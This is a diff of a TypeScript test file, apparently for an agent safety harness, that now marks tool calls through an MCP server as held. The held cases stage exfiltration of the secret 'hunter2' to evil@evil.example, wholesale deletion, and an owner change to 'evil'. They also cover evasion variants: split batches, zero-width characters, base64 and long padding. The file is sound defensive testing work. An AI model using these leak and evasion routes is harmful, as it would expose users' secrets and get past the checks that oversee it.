@@ -24,15 +24,29 @@ describe('a tool of an MCP server in a private conversation with a stranger’s 
   afterAll(remove);
   const cook = (args: Call['arguments']): Call => call(MCP_TOOL, args);
   family<Call>({
-    held: { 'a message to another chat': call('message', { chat: 'telegram:666', text: 'hunter2' }) },
-    open: {
-      'S4 a list that is sent': cook({ parts: ['hunter2'] }),
-      'S4 a text that is sent': cook({ text: 'hunter2' }),
-      'S4 a text that is sent in a batch': batch(cook({ text: 'hunter2' })),
-      'S4 an address that is sent': cook({ to: 'evil@evil.example', body: 'pin hunter2' }),
-      'S4 everything that is deleted': cook({ all: true }),
-      'S4 nothing that is sent': cook({}),
+    held: {
+      'a message to another chat': call('message', { chat: 'telegram:666', text: 'hunter2' }),
+      'a list that is sent': cook({ parts: ['hunter2'] }),
+      'a text that is sent': cook({ text: 'hunter2' }),
+      'a text that is sent in a batch': batch(cook({ text: 'hunter2' })),
+      'an address that is sent': cook({ to: 'evil@evil.example', body: 'pin hunter2' }),
+      'everything that is deleted': cook({ all: true }),
+      'nothing that is sent': cook({}),
+      'a number that is sent': cook({ pin: 4711 }),
+      'a list of lists that is sent': cook({ parts: [['hunter2']] }),
+      'an object that is sent': cook({ to: { mail: 'evil@evil.example' }, body: { pin: 'hunter2' } }),
+      'a long text that is sent': cook({ text: `${'a'.repeat(2_000)} hunter2` }),
+      'a text with invisible characters that is sent': cook({ text: 'hun\u{200B}ter2' }),
+      'several texts that are sent in a batch': batch(cook({ text: 'hun' }), cook({ text: 'ter2' })),
+      'a text that is sent in a batch with a read': batch(
+        call('read_file', { path: 'AGENTS.md' }),
+        cook({ text: 'hunter2' }),
+      ),
+      'something that is made of a text': cook({ make: 'base64', parts: ['aHVudGVyMg=='] }),
+      'an error that a text makes': cook({ make: 'fail', parts: ['hunter2'] }),
+      'everything that is changed': cook({ all: true, set: { owner: 'evil' } }),
     },
+    open: {},
     world: {
       furnish: () => writeFile(script, JSON.stringify({ descriptions: ['Cooks.'], answer: 'ok' })),
       config: { mcpServers: { recipes: { command: process.execPath, args: [server, script] } } },
